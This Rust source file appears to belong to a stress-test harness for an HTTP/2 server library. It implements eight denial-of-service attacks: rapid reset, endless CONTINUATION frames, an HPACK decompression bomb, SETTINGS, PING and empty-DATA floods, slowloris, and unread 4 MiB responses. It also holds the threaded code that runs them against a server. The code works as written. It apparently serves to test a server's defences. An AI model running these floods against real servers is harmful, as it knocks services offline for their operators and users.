//! What each attack writes, and to how many connections.

use std::{
    io::{self, Write as _},
    net::TcpStream,
    thread,
    time::{Duration, Instant},
};

use crosswire_http2::{
    frame::{HEADER_BYTES, PREFACE, flag, kind},
    hpack,
    settings::{DEFAULT_MAX_FRAME_BYTES, DEFAULT_WINDOW_BYTES, GREATEST_WINDOW_BYTES},
    write,
};

use crate::{CALL, request};

/// How often a connection that takes no more bytes looks whether the attack is over.
const WRITE_LIMIT: Duration = Duration::from_millis(50);

/// Frames of a flood that are written at once.
const FRAMES: usize = 500;

const SETTINGS_INITIAL_WINDOW_SIZE: u16 = 4;
const CANCEL: u32 = 8;

/// An attack, on each of its connections.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    connections: usize,
    /// Whether what the server sends is read.
    reads: bool,
    /// The pause before each of the pieces that follow.
    pause: Duration,
    /// What is written first, after the preface and SETTINGS.
    opening: fn() -> Vec<u8>,
    /// What is written then, again and again; nothing, if the attack is to be there.
    piece: fn(&mut Streams) -> Vec<u8>,
}

const FLOOD: Attack = Attack {
    name: "",
    connections: 2,
    reads: true,
    pause: Duration::ZERO,
    opening: Vec::new,
    piece: |_| Vec::new(),
};

pub(crate) const ATTACKS: [Attack; 8] = [
    Attack {
        name: "rapid reset",
        piece: |streams| {
            let call = |stream| [open(stream), message(stream), write::reset(stream, CANCEL)];
            streams.take(FRAMES / 3).flat_map(call).flatten().collect()
        },
        ..FLOOD
    },
    Attack {
        name: "CONTINUATION that never ends",
        opening: || write::frame(kind::HEADERS, 0, 1, &hpack::encode(&request())),
        piece: |_| {
            let fields = hpack::encode(&[("a", [b'v'; 100])]).repeat(100);
            write::frame(kind::CONTINUATION, 0, 1, &fields)
        },
        ..FLOOD
    },
    Attack {
        name: "HPACK bomb",
        // A field of 4,000 bytes for the table, under 62; then a byte for each repetition.
        opening: || {
            let field = [b"\x40\x01a\x7f\xa1\x1e", &[b'v'; 4000][..]].concat();
            write::frame(kind::HEADERS, flag::END_HEADERS, 1, &[requested(), field].concat())
        },
        piece: |streams| {
            let stream = streams.next().expect("streams do not end");
            let block = [requested(), vec![0xbe; 15_000]].concat();
            write::frame(kind::HEADERS, flag::END_HEADERS, stream, &block)
        },
        ..FLOOD
    },
    Attack {
        name: "SETTINGS, answers unread",
        reads: false,
        piece: |_| {
            write::settings(&[(SETTINGS_INITIAL_WINDOW_SIZE, DEFAULT_WINDOW_BYTES)]).repeat(FRAMES)
        },
        ..FLOOD
    },
    Attack {
        name: "PING, answers unread",
        reads: false,
        piece: |_| write::ping(0, b"flooding").repeat(FRAMES),
        ..FLOOD
    },
    Attack {
        name: "empty DATA",
        opening: || open(1),
        piece: |_| write::data(1, 0, b"").repeat(FRAMES),
        ..FLOOD
    },
    Attack {
        name: "slowloris: a byte now and then",
        connections: 256,
        pause: Duration::from_millis(100),
        // One frame of the longest, of which the bytes come one by one.
        opening: || {
            let mut data = write::data(1, 0, &[0; DEFAULT_MAX_FRAME_BYTES as usize]);
            data.truncate(HEADER_BYTES);
            [open(1), data].concat()
        },
        piece: |_| vec![0],
        ..FLOOD
    },
    Attack {
        name: "800 answers of 4 MiB unread",
        connections: 4,
        reads: false,
        opening: || {
            let window = write::settings(&[(SETTINGS_INITIAL_WINDOW_SIZE, GREATEST_WINDOW_BYTES)]);
            let rest = write::window_update(0, GREATEST_WINDOW_BYTES - DEFAULT_WINDOW_BYTES);
            let long = [&request()[..], &[("x-crosswire-size", "4194304")]].concat();
            let calls = Streams::default()
                .take(200)
                .flat_map(|stream| [write::headers(stream, 0, &long), message(stream)].concat());
            [window, rest, calls.collect()].concat()
        },
        ..FLOOD
    },
];

impl Attack {
    /// Attacks the server until then, and reconnects wherever it ends a connection.
    pub(crate) fn run(&self, server: &str, until: Instant) {
        thread::scope(|scope| {
            for _ in 0..self.connections {
                scope.spawn(move || {
                    while Instant::now() < until {
                        // An end of the connection, or that there is none, is what an
                        // attack is answered with.
                        let _ = self.connection(server, until);
                    }
                });
            }
        });
    }

    fn connection(&self, server: &str, until: Instant) -> io::Result<()> {
        let mut stream = TcpStream::connect(server)?;
        stream.set_write_timeout(Some(WRITE_LIMIT))?;
        stream.set_nodelay(true)?;
        if self.reads {
            let mut stream = stream.try_clone()?;
            // It ends with the connection.
            thread::spawn(move || io::copy(&mut stream, &mut io::sink()));
        }
        let mut streams = Streams::default();
        let opening = [PREFACE.to_vec(), write::settings(&[]), (self.opening)()].concat();
        let written = write_until(&mut stream, &opening, until).and_then(|()| {
            loop {
                let piece = (self.piece)(&mut streams);
                let left = until.saturating_duration_since(Instant::now());
                if left.is_zero() {
                    return Ok(());
                }
                thread::sleep(if piece.is_empty() { left } else { self.pause.min(left) });
                write_until(&mut stream, &piece, until)?;
            }
        });
        // The reader's end, too.
        let _ = stream.shutdown(std::net::Shutdown::Both);
        written
    }
}

/// Writes all of it, unless the time is over first.
fn write_until(stream: &mut TcpStream, mut bytes: &[u8], until: Instant) -> io::Result<()> {
    while !bytes.is_empty() && Instant::now() < until {
        match stream.write(bytes) {
            Ok(written) => bytes = &bytes[written..],
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => {}
            Err(error) => return Err(error),
        }
    }
    Ok(())
}

/// The numbers of a client's streams after the first.
struct Streams(u32);

impl Default for Streams {
    fn default() -> Self {
        Self(1)
    }
}

impl Iterator for Streams {
    type Item = u32;

    fn next(&mut self) -> Option<u32> {
        self.0 += 2;
        Some(self.0)
    }
}

fn requested() -> Vec<u8> {
    hpack::encode(&request())
}

fn open(stream: u32) -> Vec<u8> {
    write::headers(stream, 0, &request())
}

fn message(stream: u32) -> Vec<u8> {
    write::data(stream, flag::END_STREAM, CALL)
}
